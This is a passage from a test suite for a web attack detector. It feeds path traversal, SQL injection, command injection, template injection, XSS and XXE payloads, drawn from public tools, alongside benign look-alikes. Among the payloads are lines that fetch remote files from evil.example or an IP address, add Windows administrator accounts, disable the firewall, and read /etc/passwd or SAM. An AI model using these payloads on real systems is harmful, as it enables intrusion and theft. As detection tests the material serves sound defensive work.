    expect(hits("\\\\server\\share\\doc", AttackClass.Traversal)).toBe(false);
  });
});

describe("traversal: a value that is a path to system configuration, accounts or logs", () => {
  it("flags /etc/<a known file>, /root/, /var/adm, /var/log, servers under /usr/local, drive paths to hives and database files, ..2f", () => {
    const paths: StaticArray<string> = ["/etc/motd", "/etc/hostname.bge", "/etc/php5/apache2/php.ini", "file:///etc/vsftpd.conf", "/etc/ssl/private/key.pem",
      "/root/.bash_logout", "/var/adm/wtmpx", "/var/log", "/var/logs/x", "/usr/local/apache/conf/httpd.conf", "/.shosts", "C:/Windows/repair/SAM",
      "c:/mysql/my.ini", "C:\\Program Files\\MySQL\\data\\mysql.log", "C:/Users/Administrator/NTUser.dat", "..2f..2fetc2fpasswd%00", "\"/etc/x11/xorg.conf\""];
    for (let i = 0; i < paths.length; i++) expect(hits(paths[i], AttackClass.Traversal)).toBe(true, paths[i]);
  });
  it("leaves a workload's own paths, prose and other words alone", () => {
    const benign: StaticArray<string> = ["/etc/config", "/etc/ssl/certs", "/etc/localtime", "/etc/shadowsocks/config.json", "/var/lib/app/data/file1.txt",
      "/var/logo.png", "/usr/local/bin/node", "see /etc/motd for it", "/etcetera/x", "C:/Users/bob/Documents/report.docx", "c:/my.inix", "/.shostsx", "2f2f"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Traversal)).toBe(false, benign[i]);
  });
});

describe("traversal: longer overlong UTF-8 and a tool's bogus separators", () => {
  it("reads %e0%80%af … %fc%80%80%80%80%ae as the character, and 0x2f, %c1%pc, %uEFC8, %%32%%66 between dots as separators", () => {
    const overlong: StaticArray<string> = ["..%e0%80%af..%e0%80%afetc%e0%80%afpasswd", "%f0%80%80%ae%f0%80%80%ae/etc/passwd", "%f8%80%80%80%ae%f8%80%80%80%ae/etc/passwd",
      "%fc%80%80%80%80%ae%fc%80%80%80%80%ae/boot.ini"];
    for (let i = 0; i < overlong.length; i++) expect(hits(overlong[i], AttackClass.Traversal)).toBe(true, overlong[i]);
    const spelled: StaticArray<string> = ["..0x2f..0x2fetc0x2fpasswd", "0x2e0x2e0x5c0x2e0x2e0x5cboot.ini", "..%c1%pc..%c1%pcetc%c1%pcpasswd", "..%c0%9v..%c0%9vetc%c0%9vpasswd",
      "..%uEFC8..%uEFC8etc%uEFC8passwd", "..%%32%%66..%%32%%66etc%%32%%66passwd", "%c0%5e%c0%5e%c0%5cetc%c0%5cpasswd", "..%25c1%25pc..%25c1%25pcetc%25c1%25pcpasswd"];
    for (let i = 0; i < spelled.length; i++) {
      expect(anyClass(spelled[i])).toBe(AttackClass.Traversal, spelled[i]);
      expect(lastRule).toBe("traversal:spelled-separator", spelled[i]);
    }
    // The spellings alone, or not between dots and a file, are nothing.
    const benign: StaticArray<string> = ["mov eax, 0x2f", "0x2e0x2f is a hex pair", "color 0x5c5c5c", "50%c0ffee", "%uEFC8 glyph", "flags=0x2f&mode=0x5c"];
    for (let i = 0; i < benign.length; i++) expect(anyClass(benign[i])).toBe(AttackClass.None, benign[i]);
  });
});

describe("rfi: a server page on an IP address, also an IPv6 literal without brackets", () => {
  it("flags http://IP/x.php and https://2001:41d0::29c8/x.php, not a named host's page or a port", () => {
    const attacks: StaticArray<string> = ["http://66.240.183.75/crash.php", "https://[2001:41d0:701:1100::29c8]/gecko.php", "https://2001:41d0:701:1100::29c8/gecko.php", "https://dead:beef::1/index.php?x=1"];
    for (let i = 0; i < attacks.length; i++) expect(hits(attacks[i], AttackClass.Rfi)).toBe(true, attacks[i]);
    const benign: StaticArray<string> = ["https://api.example.com:8443/v1/index.php", "https://shop.example.com/cart.php?id=3", "https://2001:db8::1/x"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Rfi)).toBe(false, benign[i]);
  });
});

describe("sqli: a value that is only a SQL function's opening", () => {
  it("flags md5(, COALESCE (, hex\\( as the whole value, not a full call, prose or another name", () => {
    const probes: StaticArray<string> = ["md5(", "COALESCE(", "Rand (", "hex\\(", "database (", " concat_ws( ", "find_in_set("];
    for (let i = 0; i < probes.length; i++) {
      expect(anyClass(probes[i])).toBe(AttackClass.Sqli, probes[i]);
    }
    const benign: StaticArray<string> = ["md5(password) is weak", "see trim(", "myfunc(", "(", "md5", "Trim (left)", "insert (page 3)"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
});

describe("sqli: conditional expressions, scoped system variables, breakouts and self-comparisons", () => {
  it("flags SELECT CASE WHEN … THEN, @@global.x after a closed string, ) or ('a'='a, or a=a, a tautology before a comment, not prose", () => {
    const probes: StaticArray<string> = ["(SELECT CASE WHEN 1=1 THEN 1 ELSE 2 END)", "1 AND (SELECT CASE WHEN 1=2 THEN 1 ELSE 2 END)",
      "SELECT CASE WHEN (1=1) THEN 'a' ELSE 'b' END", "select case when a is null then 1 end", "' AND @@global.version_compile_os--",
      "' or @@session.sql_mode--", ") or ('a'='a", ")) or ((1=1", " or a=a", "or a = a", " or x=x--", "hi or 1=1 --", " or isNULL(1/0) /*",
      " (select top 1", "select top 1 * from users", "(CASE WHEN 5832=5832 THEN 1 ELSE NULL END)", "AND CASE WHEN 5832=5832 THEN 5832 ELSE JSON('x') END",
      "OR 5832=('qvkxq'||(SELECT CASE 5832 WHEN 5832 THEN 1 ELSE 0 END FROM RDB$DATABASE)||'qbjpq')", "(5832=5832)*7711", "IIF(5832=5832,1,1/0)",
      "ELT(5832=5832,7711)", "OR NOT 5832=5832", "AND 5832=DBMS_PIPE.RECEIVE_MESSAGE('xYzQ',5)", ";BEGIN DBMS_LOCK.SLEEP(5); END",
      "(SELECT LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(500000000/2)))))", ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT",
      "'hi' or 'x'='x';", "or true--", "OR 1#", "or true-- -", "'exec sp_addlogin 'name' , 'password' --", "'create user name identified by 'pass123' --"];
    for (let i = 0; i < probes.length; i++) expect(hits(probes[i], AttackClass.Sqli)).toBe(true, probes[i]);
    const benign: StaticArray<string> = ["Select case whenever you like", "select case when you need it", "select case when price is high then call",
      "bob@@example.com", "email me @@home.now please", "Select top 5", "select top 10 songs of 2024", "(yes) or (no = maybe", "either or x=y",
      "left or right -- choose", "in case when you need it", "case when price is high then call", "(a=a)", "x=(1==1)", "(&(uid=a)(1=1))",
      "randomblob", "the dbms_pipe package", "or 2 -- thanks", "I'd create a new one -- thanks", "he's insert happy -- ok"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
});

describe("xss: JavaScript written with six characters (JSFuck)", () => {
  it("flags a value of [ ] ( ) ! + with a negated array, not short or mixed ones", () => {
    const code: StaticArray<string> = ["(![]+[])[+!+[]]", "+!![]", "[][(![]+[])[+[]]]"];
    for (let i = 0; i < code.length; i++) expect(hits(code[i], AttackClass.Xss)).toBe(true, code[i]);
    const benign: StaticArray<string> = ["[]", "!![]", "[+[]]", "[] + ()", "a[!![]]", "[1] + [2]"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
  });
});

describe("xxe: xsi:schemaLocation naming one absolute URL alone", () => {
  it("flags an unpaired URL, not namespace/location pairs, noNamespaceSchemaLocation or prose", () => {
    const probes: StaticArray<string> = ["<x xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://xxe-xsi-schemalocation.example.com/\"/>",
      "<a xsi:schemaLocation = 'https://collab.example.net/x.xsd'/>", "<a xsi:schemaLocation=\"urn:a http://a/a.xsd file:///etc/passwd\"/>"];
    for (let i = 0; i < probes.length; i++) expect(hits(probes[i], AttackClass.Xxe)).toBe(true, probes[i]);
    const benign: StaticArray<string> = ["<beans xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://www.springframework.org/schema/beans http://www.springframework.org/schema/beans/spring-beans.xsd\">",
      "<a xsi:schemaLocation=\"urn:x http://a/b.xsd urn:y http://c/d.xsd\"/>", "<a xsi:noNamespaceSchemaLocation=\"http://a/b.xsd\"/>", "the schemaLocation is http://x", "<a xsi:schemaLocation=\"urn:only\"/>"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xxe)).toBe(false, benign[i]);
  });
});

describe("payloadbox's command and SQL probes", () => {
  it("flags blind probes and Windows administration after a separator, not prose with the same words", () => {
    const cmdi: StaticArray<string> = ["sleep 5", "Sleep 10", "which nc", "  which curl", "wget https://evil.example/x.txt", "curl http://203.0.113.9/rce.txt",
      "ansible-inventory --list", "; net localgroup Administrators hacker /ADD", "& net user hacker Password1 /ADD", "; net view", "| netsh firewall set opmode disable",
      "; reg add \"HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f"];
    for (let i = 0; i < cmdi.length; i++) expect(hits(cmdi[i], AttackClass.Cmdi)).toBe(true, cmdi[i]);
    const benign: StaticArray<string> = ["sleep 5 hours", "sleep well", "which is best", "which cat is yours", "curl https://api.example.com -X POST -d a=1 is how",
      "Revenue up; net user growth slowed", "costs & net user count", "; reg add a new user", "wget and curl"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
  it("reads a Windows system file after a command that prints it", () => {
    expect(hits("type C:\\Windows\\repair\\SAM", AttackClass.Traversal)).toBe(true);
    expect(hits("more /etc/shadow", AttackClass.Traversal)).toBe(true);
    expect(hits("type C:\\Users\\me\\notes.txt", AttackClass.Traversal)).toBe(false);
    expect(hits("more than /etc", AttackClass.Traversal)).toBe(false);
  });
  it("flags HAVING enumeration, literal lists, N'' literals and hex-encoded statements", () => {
    const sqli: StaticArray<string> = [" group by userid having 1=1--", "group by name having 'a'='a'", " or 'whatever' in ('whatever')", " or 'text' = n'text'",
      "0x77616974666F722064656C61792027303A303A31302700 exec(@s)", "0x730065006c00650063007400200040004000760065007200730069006f006e00 exec(@q)"];
    for (let i = 0; i < sqli.length; i++) expect(hits(sqli[i], AttackClass.Sqli)).toBe(true, sqli[i]);
    const benign: StaticArray<string> = ["group by name having fun", "Group by region having more sales", "rock n' roll", "or 'a' in the list",
      "send 0x52908400098527886E0F7030069857D2E4169EE7 to wallet", "0x77616974666F722064656C61792027303A303A313027"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
});

describe("traversal: home dotfiles and server software's files by name", () => {
  it("flags ~/.name and a server's configuration, credentials or log under any directory", () => {
    const paths: StaticArray<string> = ["~/.profile", "~/.viminfo", "~/.php_history", "/usr/local/pgsql/data/pg_hba.conf", "/home/postgres/data/postgresql.conf",
      "/usr/share/tomcat6/conf/server.xml", "/opt/tomcat/conf/tomcat-users.xml", "/usr/pkgsrc/net/pureftpd/pureftpd.passwd", "/var/data/mysql-bin.index",
      "/mysql/bin/my.ini", "/usr/local/jakarta/tomcat/logs/catalina.out", "\\xampp\\tomcat\\conf\\web.xml", "/var/www/app/config.inc.php",
      // drive paths into Windows' directory or a server stack's install
      "c:/WINDOWS/setupapi.log", "C:\\Windows\\Fonts\\arial.ttf", "c:/xampp/htdocs/admin.php", "c:/Program Files/PostgreSQL/9.1/data/pg_ident.conf"];
    for (let i = 0; i < paths.length; i++) expect(hits(paths[i], AttackClass.Traversal)).toBe(true, paths[i]);
    const benign: StaticArray<string> = ["~/x", "~/.config is where it lives", "/app/src/server.xml", "/img/my.ini.png", "docs/pg_hba.conf", "/static/catalina.out.html",
      "/conf/server.xml.bak is a backup", "~", "C:\\Users\\ann\\Documents\\report.docx", "C:\\Windows", "c:/wamp/"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Traversal)).toBe(false, benign[i]);
  });
});

describe("commix's shapes: compound commands, redirection into the web root, SUB, tamper spellings (cmdi)", () => {
  it("flags a test, a keyword's command and a redirection after a separator", () => {
    const cmdi: StaticArray<string> = ["1;if [ 7 -eq 7 ];then sleep 5;fi", "1\nif [ 3 -ne $(echo AB | wc -c) ]\nthen sleep 5\nfi",
      "1;W=$(whoami);if [[ 119 -le $(printf '%d' \"'${W}\") ]];then sleep 4;fi", "1\nthen sleep 5", "1&while [ 1 = 1 ]; do id; done",
      "1\necho QXWZRT > /var/www/html/QXWZRT.txt", "1&echo QX\t>\t/usr/share/nginx/html/QX.txt", "1\nprintf abc >> ~/.bashrc",
      "echo TAG > /var/www/html/TAG.txt", "1\x1aid", "1\x1asleep 5"];
    for (let i = 0; i < cmdi.length; i++) expect(hits(cmdi[i], AttackClass.Cmdi)).toBe(true, cmdi[i]);
    const benign: StaticArray<string> = ["if [ you ] can", "Then we sleep\nat 5", "price > 100 and rising", "echo hello", "type a > b",
      "note\nif the [draft] is ok, then ship", "echo the price > 100 dollars", "use a > b in the formula; then sort"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
  it("reads through unset variables, cmd.exe carets and ${PATH%%u*} as '/'", () => {
    const cmdi: StaticArray<string> = [";${XY}ec${XY}ho QWERTY$((3+4))$(${XY}ec${XY}ho QWERTY)", "|${Q}i${Q}d", "&^p^o^w^e^r^s^h^e^l^l -c ^w^h^o^a^m^i",
      "&c^md /c \"whoami\"", ";cat ${PATH%%u*}etc${PATH%%u*}passwd"];
    for (let i = 0; i < cmdi.length; i++) expect(hits(cmdi[i], AttackClass.Cmdi)).toBe(true, cmdi[i]);
    const benign: StaticArray<string> = ["Hello ${name}, welcome", "${HOME}/bin is on the path", "^[a-z]+$ matches words", "x^2 + y^2 = r^2"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Cmdi)).toBe(false, benign[i]);
  });
  it("reads a value that is hex-encoded text decoded, as base64 text is", () => {
    // "1;sleep 5" and "1|cat /etc/passwd" hex-encoded; a SHA-256 and a hex id are no text.
    expect(any("313b736c6565702035")).toBe(AttackClass.Cmdi);
    expect(any("317c636174202f6574632f706173737764")).not.toBe(AttackClass.None);
    expect(any("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")).toBe(AttackClass.None);
    expect(any("48656c6c6f2c20776f726c6421")).toBe(AttackClass.None); // "Hello, world!"
  });
});

describe("SSTImap's probes: Python's __import__, eval of a decoded string, render sums without delimiters", () => {
  it("flags the payloads template and eval injections send", () => {
    const cmdi: StaticArray<string> = ["1')+str(__import__('os').popen('id').read())+('1", "eval(__import__('base64').urlsafe_b64decode('MSsx').decode()) and __import__('time').sleep(4)",
      "1\"])+eval(Buffer('MSsx', 'base64').toString())+([\"1", "eval( atob('YWxlcnQoMSk=') )", "x}} {{ __import__ ( \"subprocess\" ) }}"];
    for (let i = 0; i < cmdi.length; i++) expect(hits(cmdi[i], AttackClass.Cmdi)).toBe(true, cmdi[i]);
    const ssti: StaticArray<string> = ["1):+str(4028888784+2519945525)+(1", "1}{100040066+402389071}{1", "a\n=165634661+154027428\n",
      "1\"}]}{(89+78)*56}{1", "a}]:}{((7*8)/(2*4))}{1", "1\"}]}{3*)2(/4}{1"];
    for (let i = 0; i < ssti.length; i++) expect(hits(ssti[i], AttackClass.Ssti)).toBe(true, ssti[i]);
    const benign: StaticArray<string> = ["use __import__ only in plugins", "eval(expression) is slow", "the total (12345678+87654321) units",
      "see {1,2} or {n-1}", "formula {(a+b)*c}", "range {10-20}",
      "call +14155552671 or +442079460958", "ids 123456789+987654321 merged"];
    for (let i = 0; i < benign.length; i++) expect(bits(benign[i])).toBe(0, benign[i]);
  });
  it("reads a plus sign sent as %2B in a form value as a plus sign too", () => {
    const s = "-1%20OR%202%2B1%3D3";
    const b = String.UTF8.encode(s);
    expect(detectAttackInForm(changetype<usize>(b), b.byteLength)).toBe(AttackClass.Sqli);
    const t = "name=str(4028888784%2B2519945525)";
    const tb = String.UTF8.encode(t);
    expect(detectAttackInForm(changetype<usize>(tb) + 5, tb.byteLength - 5)).toBe(AttackClass.Ssti);
    const c = "a%2Bb%20and%20c";
    const cb = String.UTF8.encode(c);
    expect(detectAttackInForm(changetype<usize>(cb), cb.byteLength)).toBe(AttackClass.None);
  });
});

describe("libinjection's samples: expressions after a closed string, constant conditions, long values (sqli)", () => {
  it("flags an operator after the quote and an expression that reopens a string or ends in a comment", () => {
    const sqli: StaticArray<string> = ["aa' LIKE md5(1) or '1", "aa' REGEXP- md5(1) or '1", "X' = 'X' = 0 = '1", "asd\"or-1=\"-1", "1\"OR-\"1", "1\"OR!\"a",
      "aa' XOR- column != -'0", "asd'|column&&'1", "aa'=('aa')#(", "aa\"in+ (\"aa\") or -1 != \"0", "id'is not-id--", "'sounds like rowid--", "A '=' B", "A '<=>' B"];
    for (let i = 0; i < sqli.length; i++) expect(hits(sqli[i], AttackClass.Sqli)).toBe(true, sqli[i]);
    // quoted marks and placeholders in prose tokenize inside out; slugs are names; a quote after a word is prose
    const benign: StaticArray<string> = ["can be \"<\", \"<=\", \">\", \">=\")", "export AWS_SESSION_TOKEN=\"<your-session-token>\"", "`npx [options] -c '<command-string>'`",
      "'90s or '80s", "Rock 'n' roll", "it's 5 o'clock", "x\" + y + \"z", "Great!\" she said, \"or not\"", "5' - 6'",
      "\"LIKE\" STAMP", "\"IS\" STAMP"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
  it("flags a condition that compares constants after AND/OR, not a filter on a column or prose", () => {
    const sqli: StaticArray<string> = ["HOPE AND 8=3", "HOPE*1 AND 8=3", "(HOPE) AND (8)=(3)", "HOPE AND 1+2=3+4", "PI() AND COS(PI())=-1", "-9-(2) OR 1 = 1",
      "FOO) AND 4499=8923#", "PHPX AND 1=1 AND XX=X", "(1 AND 1) OR 2>1--", "1 AND 1 SOUNDS LIKE 1", "1 and 1 not between 0 and 1", "AND CONNECTION_ID()=CONNECTION_ID()",
      "AND ABS(-1)=1", "foo' and (1+2+3+4+5+6)=21--", "a''12' and (pi()=pi())--"];
    for (let i = 0; i < sqli.length; i++) expect(hits(sqli[i], AttackClass.Sqli)).toBe(true, sqli[i]);
    const benign: StaticArray<string> = ["price>10 and price<20", "status=active and age>30", "Pay 5 and 2 = 7", "Terms and conditions = 5", "cats and dogs",
      "x and y", "(a) or (b)", "size = 3 or larger"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
  it("flags column probes without a comment, computed columns, stored procedures, comments between words", () => {
    const sqli: StaticArray<string> = ["1 order by 1", "1234.5) ORDER BY 1", "1 GROUP BY 1,TRANSID,ACCOUNTID HAVING 1=1", "1 order by if(1<2 ,uname,uid)",
      "(select id-0 from users limit 1,1)", "(select login/2 from users limit 1,1)", "EXEC sp_add_job @job_name = 'TestJob';", "execute xp_regread x",
      "1#\nAND#\n9227=9227", "1--PTTmJopxdWJ\nAND--cWfcVRPV\n9227=9227", "-1#\n union (select id from users limit 1,1)",
      "( (SELECT 'a' OR 'b') )  --", "' or 1=convert(int,(select @@version))--", "x=char(65)"];
    for (let i = 0; i < sqli.length; i++) expect(hits(sqli[i], AttackClass.Sqli)).toBe(true, sqli[i]);
    const benign: StaticArray<string> = ["Buy 1 order by Friday", "select one-two from the list", "exec summary attached", "# Heading\nSome text and more",
      "x = convert(y)", "let cPtr = concat(aPtr, bPtr)", "if (body) transformedSchema.body = convert(body)", "waitfor it", "SELECT", "union was a great select"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
  it("flags the forums' error-based and blind probes: version() read by string functions, floor(rand(0)*2), clauses after a number", () => {
    const sqli: StaticArray<string> = ["ascii(substring(version() from 1 for 1))", "LENGTH(compress(version()))", "1108_519_no_1718 and substring(version(),1,1)=5",
      "-1 union", "-6374 union 1,2,3,4,5-- ", "17,23 order by 16", "1902' or 1 group by concat(version(),floor(rand(0)*2))having min(0) -- ",
      "1 group by tblProducts.ProductID having 1=1--", "3 where prod.id=3/*", "85 group by concat(version(),floor(rand(0)*2)) having min(0)", "( 1 OR 1 )  --",
      "( COS ( 'a' OR @a) )  --", "((1) OR (1 OR 1))--"];
    for (let i = 0; i < sqli.length; i++) expect(hits(sqli[i], AttackClass.Sqli)).toBe(true, sqli[i]);
    const benign: StaticArray<string> = ["print(version())", "node --version()", "-1 union members", "(yes or no) --", "(this or that) -- Bob", "3 where it all began",
      "x = Math.floor(Math.random()*2)", "1 group by group"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
  it("reads SQL after a padding of 16 or 300 tokens, and the tokens of a long value in windows", () => {
    let words = "";
    for (let i = 0; i < 300; i++) words += "word ";
    let numbers = "";
    for (let i = 0; i < 300; i++) numbers += "1,";
    expect(hits("a b c d e f g h i j k l m n o p q r s t 1 union select password from users", AttackClass.Sqli)).toBe(true);
    expect(hits(words + "1 union select password from users", AttackClass.Sqli)).toBe(true);
    expect(hits("999)," + numbers + "(SELECT IF ((ASCII(SUBSTRING(admin_pw,1,1)='1') & 1, benchmark(20000,CHAR(0)),0) FROM se_games))/*", AttackClass.Sqli)).toBe(true);
    expect(hits(words + "and a union of them, selected with care", AttackClass.Sqli)).toBe(false);
    expect(hits("[{\"k1\":\"SELECT\",\"email\":\"u1@x.com\"},{\"k2\":\"Sleep well\",\"note\":\"waitfor it\"}," + words + "]", AttackClass.Sqli)).toBe(false);
  });
});

describe("nuclei templates' payload shapes", () => {
  it("flags backquoted names closed into SQL, escaped quotes, injected column lists; not markdown code or names", () => {
    const sqli: StaticArray<string> = ["id`,if(SUBSTRING('test',1,1)='t',sleep(6),sleep(0))-- -", "clicks`=1 and 1=sleep(5)-- -", "` WHERE 1=1 AND (SELECT 1 FROM (SELECT(SLEEP(7)))a)-- ",
      "\\'or 1=1#", "* from wp_users-- -", "* from users where 1=1"];
    for (let i = 0; i < sqli.length; i++) expect(hits(sqli[i], AttackClass.Sqli)).toBe(true, sqli[i]);
    const benign: StaticArray<string> = ["`+(a|{b),c)}`, which would not be valid in bash", "x`by|7N='\"b@p", "Use `npm install` to set up", "* from the team",
      "\\'s fine", "it\\'s fine"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Sqli)).toBe(false, benign[i]);
  });
  it("flags OGNL, Groovy's execute, Runtime.getRuntime().exec, PHP's concatenated calls, dot segments before a system file", () => {
    expect(hits("%{128*128}", AttackClass.Ssti)).toBe(true);
    expect(hits("x%{#a=(new java.lang.ProcessBuilder('id')).start()}", AttackClass.Ssti) || hits("x%{#a=(new java.lang.ProcessBuilder('id')).start()}", AttackClass.Cmdi)).toBe(true);
    expect(hits("%{name} is here", AttackClass.Ssti)).toBe(false);
    expect(hits("%{3fS6*8iWe", AttackClass.Ssti)).toBe(false);
    const cmdi: StaticArray<string> = ["throw new Exception('id'.execute().text);", "[\"sh\",\"-c\",\"id\"].execute()", "script::Runtime.getRuntime().exec('id')",
      "test\".system(id).\"", "'.system('id').'"];
    for (let i = 0; i < cmdi.length; i++) expect(hits(cmdi[i], AttackClass.Cmdi)).toBe(true, cmdi[i]);
    const code: StaticArray<string> = ["db.exec(x)", "'a'.exec(b)", "job.execute()", "query.execute(params)"];
    for (let i = 0; i < code.length; i++) expect(hits(code[i], AttackClass.Cmdi)).toBe(false, code[i]);
    expect(hits("/./etc/./passwd", AttackClass.Traversal)).toBe(true);
    expect(hits("C:/windows/system.ini", AttackClass.Traversal)).toBe(true);
    expect(hits("./docs/./readme.md", AttackClass.Traversal)).toBe(false);
  });
});

describe("nuclei templates' payload shapes (second pass)", () => {
  it("flags Python's os.system, escaped quotes around a command, md5 output probes, UPDATE assignments, a name's unclosed backtick", () => {
    const cmdi: StaticArray<string> = ["import os;os.system('id')", "system(\\'ver\\')\\", "echo md5(\"CVE-2019-16759\");", "print(md5(999999999))", "{if:1)echo md5('seacms');if(1}"];
    for (let i = 0; i < cmdi.length; i++) expect(hits(cmdi[i], AttackClass.Cmdi)).toBe(true, cmdi[i]);
    const code: StaticArray<string> = ["the md5(x) hash", "echo the md5 sum", "photos.system('x')", "myos.system('id')", "print(md5sum)"];
    for (let i = 0; i < code.length; i++) expect(hits(code[i], AttackClass.Cmdi)).toBe(false, code[i]);
    const sqli: StaticArray<string> = ["filter[` ON 1 UNION SELECT IF(ORD(SUBSTR((1),1,1))<126,1,SLEEP(7)) OR ?=?#]", "',api_token='2yQ8mK4vT1' where id=1;-- -"];
    for (let i = 0; i < sqli.length; i++) expect(hits(sqli[i], AttackClass.Sqli)).toBe(true, sqli[i]);
    expect(hits("Tom', Jerry='best' friends", AttackClass.Sqli)).toBe(false);
  });
});

describe("markup injected after an attribute broken out of (xss)", () => {
  it("flags a quote, '>' and a tag before any '<' of the value; not HTML content or a quoted name before an address", () => {
    const xss: StaticArray<string> = ["\"><h1>Test</h1>", "a'\"><injectable>", "x\"><img src=x>", "\"><a href=//evil.example>click</a>", "'><h1>x"];
    for (let i = 0; i < xss.length; i++) expect(hits(xss[i], AttackClass.Xss)).toBe(true, xss[i]);
    const benign: StaticArray<string> = ["<p class=\"x\"><b>bold</b></p>", "\"John\" <john@example.com>", "\"5\"> <3", "I <3 \"cats\">", "a \"b\" > c",
      "LISTING-PRICE\">    <A-TR"];
    for (let i = 0; i < benign.length; i++) expect(hits(benign[i], AttackClass.Xss)).toBe(false, benign[i]);
  });
});

describe("catalog probes cut by a comment (sqli)", () => {
  it("flags @@version--, database()#, information_schema-- x; not a hashtag after a name", () => {
    const sqli: StaticArray<string> = ["@@version--", "@@version /*", "database()#", "information_schema-- x"];
    for (let i = 0; i < sqli.length; i++) expect(hits(sqli[i], AttackClass.Sqli)).toBe(true, sqli[i]);
    expect(hits("sysobjects#tag", AttackClass.Sqli)).toBe(false);
  });
});

describe("sqli: sqlmap's tamper scripts", () => {
  it("reads one-word comment lines as blanks, comments before a call's parenthesis, BETWEEN as a comparison, ELT and GET_LOCK", () => {
    const values: StaticArray<string> = [
      ")#ngrok\nAnD#ngrok\n3548=4872", "#ngrok\nanD#ngrok\n6963=6081", "1#ngrok\nAND#ngrok\n1=1",                         // space2hash
      "||(SELECT#x\ntdtT#x\nFROM#x\nDUAL#x\nWHERE#x\n9670=9670#x\nAND#x\n7462=9095)||",
      " AND MAKE_SET/**/(1167=4814,4814)", ") AND ELT/**/(5435=5435,1)", " AND SLEEP/**/(5)",                              // commentbeforeparentheses
      ") HAVING 6567 BETWEEN 8791 AND 8791-- wTJY", "IIF(3787 BETWEEN 8047 AND 8047,3787,1/0)",                            // between
      "(CASE WHEN 2965 BETWEEN 5832 AND 5832 THEN 2965 ELSE NULL END)",
      " AND GET_LOCK('ETgP',5)", " OR ELT(1=1,1)",                                                                         // sleep2getlock, ELT
      "') %A%N%D %7%4%1%0=%7%4%1%0-- -", ")) %a%S %g%S%u%S %W%H%e%R%e 9114=9114", "-1781) %o%R 2613=8785-- x",             // percentage (IIS)
    ];
    for (let i = 0; i < values.length; i++) expect(hits(values[i], AttackClass.Sqli)).toBe(true, values[i]);
    const prose: StaticArray<string> = ["#sunset\nand a view", "Photo #beach\nAND more", "Prices between 5 and 10 dollars", "ELT (extract, load, transform)",
      "100% sure", "%d%s", "we get_lock later", "C#\nand Java"];
    for (let i = 0; i < prose.length; i++) expect(clean(prose[i])).toBe(true, prose[i]);
  });
});

describe("ssti: Razor (ASP.NET)", () => {
  it("flags an explicit expression of arithmetic and code reaching processes or files; an address's '@' and dates are not", () => {
    const probes: StaticArray<string> = ["@(7*7)", "@(1337*1337)", "@( 7 * 7 )", "x @(3+4) y", '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")',
      '@System.IO.File.ReadAllText("/etc/passwd")'];
    for (let i = 0; i < probes.length; i++) expect(hits(probes[i], AttackClass.Ssti)).toBe(true, probes[i]);
    const other: StaticArray<string> = ["a@(7*7)", "@(2026-11-20)", "@(42)", "@(DateTime.Now)", "Price @(price) USD", "see (7*7)", "user@example.com (3*4)"];
    for (let i = 0; i < other.length; i++) expect(hits(other[i], AttackClass.Ssti)).toBe(false, other[i]);
  });
});
